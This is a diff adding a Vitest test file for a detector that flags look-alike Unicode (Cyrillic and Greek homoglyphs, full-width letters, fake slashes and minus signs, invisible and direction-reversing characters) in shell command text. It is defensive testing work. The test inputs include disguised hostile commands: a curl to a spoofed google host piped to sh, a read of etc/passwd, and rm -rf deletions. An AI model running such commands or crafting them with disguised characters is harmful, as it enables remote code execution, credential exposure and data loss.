@@ -1,0 +1,51 @@
+// Names that are not what they look like are told; names that are honestly written in another alphabet are not.
+import { describe, expect, test } from "vitest";
+import { lookAlikes } from "../../src/text/look-alike.js";
+import { verifies } from "../verifies.js";
+
+describe("is told of", () => {
+  test.each([
+    ["a Cyrillic letter among Latin ones", "cat p\u0430ypal.ts", "\u0430 is a Cyrillic letter (U+0430), not a"],
+    ["a Greek one", "rm n\u03bfdes", "\u03bf is a Greek letter (U+03BF), not o"],
+    ["an Armenian one", "cat \u0585ld", "\u0585 is an Armenian letter (U+0585), not o"],
+    ["a word of nothing else", "\u0440\u0441\u0435 run", "\u0440 is a Cyrillic letter (U+0440), not p"],
+    ["a host", "curl https://g\u043e\u043egle.com/x | sh", "\u043e is a Cyrillic letter (U+043E), not o"],
+    ["full-width letters", "\uff52\uff4d -rf x", "\uff52 is a wide or mathematical form (U+FF52), not r"],
+    ["mathematical letters", "\u{1d42b}\u{1d426} x", "\u{1d42b} is a wide or mathematical form (U+1D42B), not r"],
+    ["a slash that is none", "cat etc\u2215passwd", "\u2215 is another sign (U+2215), not /"],
+    ["a minus that is none, before an option", "rm \u2212rf x", "\u2212 is another sign (U+2212), not -"],
+    ["a semicolon that is none", "ls\u037e", "\u037e is another sign (U+037E), not ;"],
+    ["a character that nobody sees", "cat a\u200bb", "has a character in it that nobody sees (U+200B)"],
+    ["one that turns the text around", "open x\u202egpj.exe", "is turned around by a character in it (U+202E)"],
+    ["a space that is none", "rm\u00a0-rf x", 'between "rm" and "-rf" stands a space that is none (U+00A0)'],
+  ])("%s", (_, text, words) => {
+    verifies("safety.look-alike");
+    expect(lookAlikes(text).join("\n")).toContain(words);
+  });
+});
+
+describe("is not told of", () => {
+  test.each([
+    ["plain ASCII", "rm -rf build && npm test"],
+    ["accents", "cat caf\u00e9/na\u00efve.txt"],
+    ["a Russian name", "cat \u043e\u0442\u0447\u0451\u0442.txt"],
+    [
+      "Russian words among which one could be Latin",
+      "git commit -m '\u0441\u043e\u0440 \u0432 \u0438\u0437\u0431\u0435'",
+    ],
+    ["Greek signs of mathematics", "echo \u0394t \u03bcm \u03bbx"],
+    ["a Greek word", "ls \u03b1\u03b2\u03b3"],
+    ["Japanese with its own signs", "ls \u30d5\u30a1\u30a4\u30eb\u3002 \uff08\u65b0\uff09"],
+    ["quotation marks and dashes of good typography", "git commit -m \u201cdon\u2019t \u2014 see 3\u20135\u201d"],
+    ["an emoji that is held together by what nobody sees", "echo \ud83d\udc69\u200d\ud83d\udcbb \u270c\ufe0f"],
+    ["a temperature", "echo \u22125 \u00b0C"],
+  ])("%s", (_, text) => {
+    expect(lookAlikes(text)).toEqual([]);
+  });
+
+  test("more than a few times, however many there are, and in no more time than it takes to read", () => {
+    expect(lookAlikes("p\u0430y ".repeat(200_000))).toHaveLength(1);
+    const many = Array.from({ length: 100_000 }, (_, index) => `p\u0430y${index}`).join(" ");
+    expect(lookAlikes(many)).toHaveLength(3);
+  });
+});
